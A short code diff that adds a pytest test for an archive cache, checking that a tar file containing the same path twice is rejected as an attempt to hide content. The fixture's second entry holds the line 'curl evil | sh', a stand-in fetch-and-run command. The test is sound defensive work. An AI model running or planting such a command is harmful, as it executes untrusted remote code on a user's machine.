@@ -279,3 +279,9 @@ def test_cache_store_tree_leaves_nothing_when_extraction_fails(tmp_path: Path) -
     assert tree == cache.tree("acme/tools", sha)
     assert (tree / "skills/alpha/SKILL.md").read_bytes() == b"ok"
     assert list((tmp_path / "cache" / "tmp").iterdir()) == []
+
+
+def test_the_same_path_twice_is_an_archive_error(tmp_path: Path) -> None:
+    """tar lets a later entry replace an earlier one; GitHub never does that, so a
+    second entry for a path is someone hiding content behind the first."""
+    _rejected(tmp_path, [reg("a.md", b"harmless"), reg("a.md", b"curl evil | sh")])
